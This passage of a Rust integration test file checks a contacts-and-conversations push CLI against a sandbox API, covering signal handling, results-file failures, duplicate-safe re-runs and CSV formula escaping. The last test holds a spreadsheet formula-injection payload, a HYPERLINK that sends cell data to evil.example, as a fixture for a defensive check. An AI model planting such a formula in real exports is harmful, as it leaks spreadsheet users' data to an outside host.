        ("empty.jsonl", ""),
        ("blank.jsonl", "\n\n"),
    ] {
        let from = cli.write(name, text);
        let run = cli.push("contacts", &from, "r.csv", &["--dry-run"]);
        assert_eq!(run.code, 0, "{name}: {}", run.stderr);
        assert!(
            run.stderr
                .contains(&format!("warning: --from {from}: the input has no rows")),
            "{name}: {}",
            run.stderr
        );
    }
    let rows = cli.write("rows.csv", "email\nw@example.com\n");
    let run = cli.push("contacts", &rows, "r.csv", &["--dry-run"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(!run.stderr.contains("no rows"), "{}", run.stderr);
}

/// `count` contacts `PREFIX{i}@example.com`, one a row.
fn contacts_csv(prefix: &str, count: u64) -> String {
    let mut csv = String::from("email,name\n");
    for i in 1..=count {
        csv.push_str(&format!("{prefix}{i}@example.com,User {i}\n"));
    }
    csv
}

/// Asserts that the rows of a stopped run's results file are exactly rows 1..=last (every
/// row read has one outcome, rows are read in order) and that what landed in the sandbox
/// matches: a created row landed once, any other row and every row after `last` not at all.
/// Returns `last` and the number of rows rejected as not sent.
fn check_stopped_results(
    sandbox: &Sandbox,
    r: &BTreeMap<u64, (String, String, String)>,
    prefix: &str,
    total: u64,
) -> (u64, u64) {
    let last = *r.keys().last().expect("some rows have an outcome");
    assert_eq!(
        r.keys().copied().collect::<Vec<_>>(),
        (1..=last).collect::<Vec<_>>(),
        "every row read has exactly one outcome"
    );
    assert!(last < total, "the run stopped before the end: {last}");
    let mut not_sent = 0;
    for i in 1..=total {
        let landed = sandbox.by_email(&format!("{prefix}{i}@example.com"));
        match r.get(&i) {
            Some((outcome, id, _)) if outcome == "created" => {
                assert_eq!(landed.len(), 1, "row {i}");
                assert_eq!(*id, landed[0].id.to_string());
            }
            Some((outcome, _, reason)) => {
                assert_eq!(outcome, "rejected", "row {i}");
                assert!(landed.is_empty(), "row {i}");
                if reason.starts_with("not sent: the run stopped") {
                    not_sent += 1;
                }
            }
            None => assert!(landed.is_empty(), "row {i} has no outcome but landed"),
        }
    }
    (last, not_sent)
}

/// Adds credential `observer` (the sandbox's second token) to `cli`'s data dir.
fn add_observer_credential(cli: &Cli, _sandbox: &Sandbox) {
    cli.add_credential_at("observer", OBSERVER, 60_000);
}

#[test]
fn a_revoked_token_stop_gives_every_read_row_one_outcome_and_re_feeding_finishes_the_rest() {
    let fault = FaultSpec {
        route: "contacts.create".into(),
        kind: drift_sandbox::FaultKind::RevokeToken,
        status: None,
        after_requests: 10,
        count: Some(1),
        probability: None,
        delay_ms: None,
    };
    let sandbox = Sandbox::small().faults(vec![fault]).start();
    let cli = Cli::with_sb(&sandbox);
    let from = cli.write("in.csv", &contacts_csv("stop", 100));
    let run = cli.push("contacts", &from, "r.csv", &["--json"]);
    assert_eq!(run.code, 3, "{}\n{}", run.stdout, run.stderr);
    let r = cli.results("r.csv");
    let (last, not_sent) = check_stopped_results(&sandbox, &r, "stop", 100);
    assert!(not_sent > 0, "queued rows are listed as not sent");
    let summary: Value = serde_json::from_str(run.stdout.lines().next().unwrap()).unwrap();
    assert_eq!(summary["rows"], json!(r.len()));
    assert_eq!(summary["not_sent"], json!(not_sent));
    assert!(
        run.stderr.contains(&format!(
            "{} rows have an outcome in {} ({not_sent} of them `rejected` as not sent); \
             rows after row {last} were not processed",
            r.len(),
            cli.path("r.csv").display()
        )),
        "{}",
        run.stderr
    );

    // Re-feed the rejected rows with a working credential: each is sent once.
    add_observer_credential(&cli, &sandbox);
    let refeed = cli.path("r.csv").display().to_string();
    let results2 = cli.path("r2.csv").display().to_string();
    let run = cli.run(&[
        "push",
        "contacts",
        "--credential",
        "observer",
        "--from",
        &refeed,
        "--only",
        "rejected",
        "--results",
        &results2,
    ]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let r2 = cli.results("r2.csv");
    let rejected: Vec<u64> = r
        .iter()
        .filter(|(_, o)| o.0 == "rejected")
        .map(|(n, _)| *n)
        .collect();
    assert_eq!(r2.keys().copied().collect::<Vec<_>>(), rejected);
    assert!(r2.values().all(|o| o.0 == "created"), "{r2:?}");

    // Then the whole input: rows already written come back unchanged, the rest created.
    let run = cli.run(&[
        "push",
        "contacts",
        "--credential",
        "observer",
        "--from",
        &from,
        "--results",
        &cli.path("r3.csv").display().to_string(),
    ]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let r3 = cli.results("r3.csv");
    assert_eq!(r3.len(), 100);
    for (i, (outcome, _, _)) in &r3 {
        let expected = if *i <= last { "unchanged" } else { "created" };
        assert_eq!(outcome, expected, "row {i}");
        let landed = sandbox.by_email(&format!("stop{i}@example.com"));
        assert_eq!(landed.len(), 1, "row {i}: no contact is created twice");
    }
}

/// Sends `signal` (`INT`, `TERM`) to a push of 100 rows against a slow sandbox once a few
/// rows have an outcome, and checks how it stopped.
fn stop_a_push_with(signal: &str) {
    let sandbox = Sandbox::small().latency_ms(150).start();
    let cli = Cli::with_sb(&sandbox);
    let prefix = format!("sig{}", signal.to_lowercase());
    let from = cli.write("in.csv", &contacts_csv(&prefix, 100));
    let results = cli.path("r.csv");
    let results_s = results.display().to_string();
    let child = cli
        .command(&[
            "push",
            "contacts",
            "--credential",
            "sb",
            "--from",
            &from,
            "--results",
            &results_s,
            "--concurrency",
            "2",
        ])
        .spawn()
        .unwrap();
    let started = std::time::Instant::now();
    while started.elapsed() < std::time::Duration::from_secs(20) {
        let lines = std::fs::read_to_string(&results)
            .map(|t| t.lines().count())
            .unwrap_or(0);
        if lines > 5 {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let killed = Command::new("kill")
        .args([&format!("-{signal}"), &child.id().to_string()])
        .status()
        .unwrap();
    assert!(killed.success());
    let out = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stdout}\n{stderr}");
    assert!(
        stdout.contains("push contacts:"),
        "the summary is printed: {stdout}"
    );
    assert!(stderr.contains("the run was stopped"), "{stderr}");
    let r = cli.results("r.csv");
    let (_, not_sent) = check_stopped_results(&sandbox, &r, &prefix, 100);
    let created = r.values().filter(|o| o.0 == "created").count() as u64;
    let rejected = r.values().filter(|o| o.0 == "rejected").count() as u64;
    assert_eq!(rejected, not_sent, "only queued rows are not sent: {r:?}");
    let store = store::Store::open(&cli.data_dir()).unwrap();
    let runs = store.list_runs(5).unwrap();
    assert_eq!(runs[0].status, "cancelled");
    assert_eq!(runs[0].summary["counts"]["created"], json!(created));
    assert_eq!(runs[0].summary["rows"], json!(r.len()));
}

#[test]
fn ctrl_c_during_a_push_finishes_the_rows_in_flight_and_records_the_run_cancelled() {
    stop_a_push_with("INT");
}

#[test]
fn sigterm_during_a_push_finishes_the_rows_in_flight_and_records_the_run_cancelled() {
    stop_a_push_with("TERM");
}

#[test]
fn a_results_file_on_a_full_disk_is_refused_before_anything_is_sent() {
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let before = sandbox.contact_count();
    let from = cli.write("in.csv", &contacts_csv("full", 50));
    let run = cli.push_to("/dev/full", &from);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stderr.contains("/dev/full") && run.stderr.contains("No space left on device"),
        "{}",
        run.stderr
    );
    assert_eq!(sandbox.contact_count(), before, "nothing was sent");
    assert_eq!(sandbox.route_count("contacts.create"), 0);
    let store = store::Store::open(&cli.data_dir()).unwrap();
    let runs = store.list_runs(5).unwrap();
    assert!(
        runs.iter()
            .all(|r| r.status != "interrupted" && r.status != "running"),
        "{runs:?}"
    );
}

#[test]
fn a_results_path_that_cannot_hold_results_is_refused_naming_the_fix() {
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let from = cli.write("in.csv", &contacts_csv("path", 3));
    std::fs::create_dir(cli.path("adir")).unwrap();
    for (results, says) in [
        ("adir", "is a directory: name a regular file"),
        (
            "r.parquet",
            "`.parquet` is not a results format; name a .csv or .jsonl file",
        ),
    ] {
        let path = cli.path(results).display().to_string();
        let run = cli.push_to(&path, &from);
        assert_eq!(run.code, 2, "{results}: {}", run.stderr);
        assert!(run.stderr.contains(says), "{results}: {}", run.stderr);
    }
    assert_eq!(
        sandbox.route_count("contacts.create"),
        0,
        "nothing was sent"
    );
}

#[cfg(unix)]
#[test]
fn a_results_file_that_fails_mid_run_stops_the_push_and_records_it_failed() {
    use std::io::Read;
    let sandbox = Sandbox::small().latency_ms(20).start();
    let cli = Cli::with_sb(&sandbox);
    let before = sandbox.contact_count();
    let from = cli.write("in.csv", &contacts_csv("gone", 200));
    // The results "file" is a pipe whose reader goes away after the header and 3 rows:
    // later writes fail (EPIPE), as on a disk that fills up during the run.
    let fifo = cli.path("results.csv");
    assert!(Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || {
            let mut f = std::fs::File::open(&fifo).unwrap();
            let (mut seen, mut buf) = (Vec::new(), [0u8; 256]);
            while seen.iter().filter(|b| **b == b'\n').count() < 4 {
                let n = f.read(&mut buf).unwrap();
                if n == 0 {
                    break;
                }
                seen.extend_from_slice(&buf[..n]);
            }
        })
    };
    let run = cli.push_to(&fifo.display().to_string(), &from);
    reader.join().unwrap();
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    // Opening a pipe waits for its reader: the user is told, so a pipe nobody reads does
    // not look like a silent hang.
    assert!(
        run.stderr
            .contains("is a named pipe: waiting for a process to read it"),
        "{}",
        run.stderr
    );
    let store = store::Store::open(&cli.data_dir()).unwrap();
    let runs = store.list_runs(5).unwrap();
    assert_eq!(runs[0].status, "failed", "{:?}", runs[0]);
    let created = runs[0].summary["counts"]["created"].as_u64().unwrap();
    assert!(
        created > 0 && created < 200,
        "the run stopped sending: {created}"
    );
    assert_eq!(sandbox.contact_count(), before + created);
    assert!(
        run.stderr.contains("cannot write the results")
            && run.stderr.contains(&format!("{created} created"))
            && run.stderr.contains("could not be saved")
            && run.stderr.contains("not created twice"),
        "{}",
        run.stderr
    );

    // A re-run with a writable results file finds those contacts: nothing twice.
    let run = cli.push("contacts", &from, "r.csv", &[]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let r = cli.results("r.csv");
    let unchanged = r.values().filter(|o| o.0 == "unchanged").count() as u64;
    assert_eq!(unchanged, created);
    assert_eq!(sandbox.contact_count(), before + 200);
}

#[test]
fn ctrl_c_on_a_slow_rate_budget_exits_at_once_and_starts_no_new_row() {
    // 30 requests a minute: each row's lookup and create wait seconds for the budget. Before
    // the fix the rows waiting for it were still sent after Ctrl-C (exit after > 30 s).
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let prefix = "slowstop";
    let from = cli.write("in.csv", &contacts_csv(prefix, 40));
    let results = cli.path("r.csv");
    let results_s = results.display().to_string();
    let contacts_before = sandbox.contact_count();
    let mut child = cli
        .command(&[
            "push",
            "contacts",
            "--credential",
            "sb",
            "--from",
            &from,
            "--results",
            &results_s,
            "--rate-limit-per-min",
            "30",
            "--concurrency",
            "8",
        ])
        .spawn()
        .unwrap();
    let started = std::time::Instant::now();
    while started.elapsed() < std::time::Duration::from_secs(60) {
        let lines = std::fs::read_to_string(&results)
            .map(|t| t.lines().count())
            .unwrap_or(0);
        if lines > 1 {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let killed = Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(killed.success());
    let signalled = std::time::Instant::now();
    let exited = loop {
        if child.try_wait().unwrap().is_some() {
            break signalled.elapsed();
        }
        if signalled.elapsed() > std::time::Duration::from_secs(90) {
            let _ = child.kill();
            break signalled.elapsed();
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    };
    let out = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        exited < std::time::Duration::from_secs(10),
        "exited {exited:?} after Ctrl-C (rows waiting for the budget must not be sent)\n{stderr}"
    );
    assert_eq!(out.status.code(), Some(1), "{stdout}\n{stderr}");
    let requests_at_exit = sandbox.admin("stats");
    std::thread::sleep(std::time::Duration::from_millis(500));
    assert_eq!(
        sandbox.admin("stats")["by_route"],
        requests_at_exit["by_route"],
        "no request after the exit"
    );
    let r = cli.results("r.csv");
    let (_, not_sent) = check_stopped_results(&sandbox, &r, prefix, 40);
    let created = r.values().filter(|o| o.0 == "created").count() as u64;
    let rejected = r.values().filter(|o| o.0 == "rejected").count() as u64;
    assert!(
        not_sent > 0,
        "rows waiting for the budget are not sent: {r:?}"
    );
    assert_eq!(
        rejected, not_sent,
        "every rejected row is `not sent`: {r:?}"
    );
    assert_eq!(
        sandbox.contact_count() - contacts_before,
        created,
        "one contact per `created`"
    );
    assert_eq!(
        sandbox.route_count("contacts.create"),
        created,
        "no create was sent for a row that is not `created`"
    );
    let store = store::Store::open(&cli.data_dir()).unwrap();
    let runs = store.list_runs(5).unwrap();
    assert_eq!(runs[0].status, "cancelled");
    assert_eq!(runs[0].summary["rows"], json!(r.len()));
}

impl Sandbox {
    /// Conversations per contact email (every conversation in the sandbox).
    fn conversations_of(&self, email: &str) -> usize {
        use futures::StreamExt;
        let ids: Vec<i64> = self.by_email(email).iter().map(|c| c.id).collect();
        self.runtime.block_on(async {
            let mut pages = Box::pin(
                self.observer()
                    .conversations(drift_client::ListConversations::default()),
            );
            let mut n = 0;
            while let Some(page) = pages.next().await {
                n += page
                    .unwrap()
                    .items
                    .iter()
                    .filter(|c| c.contact_id.is_some_and(|id| ids.contains(&id)))
                    .count();
            }
            n
        })
    }
}

#[test]
fn a_conversation_whose_connection_dropped_is_not_sent_again_by_a_re_run() {
    let sandbox = Sandbox::start();
    sandbox.set_faults(json!([
        {"route": "conversations.create", "kind": "reset", "after_requests": 2, "count": 1},
        {"route": "conversations.create", "kind": "status", "status": 403,
         "after_requests": 6, "count": 1}
    ]));
    let cli = Cli::with_sb(&sandbox);
    let mut csv = String::from("email,body\n");
    for i in 1..=30 {
        csv.push_str(&format!("conv{i}@example.com,Hello {i}\n"));
    }
    let from = cli.write("cs.csv", &csv);
    let first = cli.push("conversations", &from, "r1.csv", &["--concurrency", "1"]);
    assert_eq!(first.code, 3, "{}", first.stderr);
    let r1 = cli.results("r1.csv");
    assert_eq!(r1[&3].0, "rejected");
    assert!(r1[&3].2.contains("may or may not"), "{}", r1[&3].2);
    assert!(
        first
            .stderr
            .contains("the 1 rows whose write may or may not have landed are not sent again"),
        "the stop message does not promise what a re-run cannot keep: {}",
        first.stderr
    );
    assert!(
        !first.stderr.contains("nothing is written twice"),
        "{}",
        first.stderr
    );

    sandbox.set_faults(json!([]));
    let again = cli.push("conversations", &from, "r2.csv", &["--concurrency", "1"]);
    assert_eq!(again.code, 5, "{}", again.stderr);
    let r2 = cli.results("r2.csv");
    assert_eq!(r2.len(), 30);
    let (outcome, _, reason) = &r2[&3];
    assert_eq!(outcome, "rejected", "{reason}");
    assert!(
        reason.contains("may have created") && reason.contains("--resend-uncertain"),
        "{reason}"
    );
    for i in [1, 2, 4, 5, 6] {
        assert_eq!(r2[&i].0, "unchanged", "row {i}");
    }
    for i in 7..=30 {
        assert_eq!(r2[&i].0, "created", "row {i}");
    }
    for i in 1..=30 {
        let n = sandbox.conversations_of(&format!("conv{i}@example.com"));
        if i == 3 {
            assert!(n <= 1, "the uncertain row: {n} conversations");
        } else {
            assert_eq!(n, 1, "row {i}");
        }
    }

    // Re-feeding the rejected rows does not send it either; --resend-uncertain does.
    let refeed = cli.push(
        "conversations",
        &cli.path("r2.csv").display().to_string(),
        "r3.csv",
        &["--only", "rejected"],
    );
    assert_eq!(refeed.code, 5, "{}", refeed.stderr);
    assert_eq!(outcomes(&cli.results("r3.csv")), vec![(3, "rejected")]);
    let forced = cli.push("conversations", &from, "r4.csv", &["--resend-uncertain"]);
    assert_eq!(forced.code, 0, "{}", forced.stderr);
    assert_eq!(cli.results("r4.csv")[&3].0, "created");
}

/// Issue 17 item 4: a key a spreadsheet would run as a formula (`=HYPERLINK(...)`, `@SUM`,
/// `+`, `-`) gets a leading `'` in a CSV results file, while the `input` cell keeps the row
/// as read (a re-feed reads that) and a JSONL results file keeps the values exactly.
#[test]
fn results_csv_cells_that_start_a_formula_are_neutralised_and_jsonl_is_unchanged() {
    let sandbox = Sandbox::start();
    let cli = Cli::with_sb(&sandbox);
    let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
    let from = cli.write(
        "formulas.csv",
        &format!(
            "externalId,email\n\"{}\",a@example.com\n@SUM(1+1),b@example.com\n+1,c@example.com\n-1,d@example.com\nplain,e@example.com\n",
            formula.replace('"', "\"\"")
        ),
    );
    let args = ["--key", "externalId", "--dry-run"];
    let run = cli.push("contacts", &from, "formulas-results.csv", &args);
    assert!([0, 5].contains(&run.code), "{}", run.stderr);
    let mut reader = csv::Reader::from_path(cli.path("formulas-results.csv")).unwrap();
    let mut rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    rows.sort_by_key(|r| r[0].parse::<u64>().unwrap());
    let keys: Vec<&str> = rows.iter().map(|r| &r[1]).collect();
    assert_eq!(
        keys,
        [
            format!("'{formula}").as_str(),
            "'@SUM(1+1)",
            "'+1",
            "'-1",
            "plain"
        ]
    );
    for row in &rows {
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell starts a formula: {cell:?}"
            );
        }
    }
    let input: Value = serde_json::from_str(&rows[0][5]).unwrap();
    assert_eq!(
        input["externalId"], formula,
        "the input cell keeps the row as read"
    );

    let jsonl = cli.push("contacts", &from, "formulas-results.jsonl", &args);
    assert!([0, 5].contains(&jsonl.code), "{}", jsonl.stderr);
    let text = std::fs::read_to_string(cli.path("formulas-results.jsonl")).unwrap();
    let first: Value = text
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|l| l["row"] == 1)
        .unwrap();
    assert_eq!(first["key"], formula, "JSONL results are unchanged");

    let results = cli.path("formulas-results.csv").display().to_string();
    let again = cli.push("contacts", &results, "formulas-again.csv", &args);
    assert!([0, 5].contains(&again.code), "{}", again.stderr);
    let mut reader = csv::Reader::from_path(cli.path("formulas-again.csv")).unwrap();
    let first = reader
        .records()
        .map(|r| r.unwrap())
        .find(|r| &r[0] == "1")
        .unwrap();
    assert_eq!(
        &first[1],
        format!("'{formula}"),
        "a re-fed results file reads the original value, not the neutralised cell"
    );
}
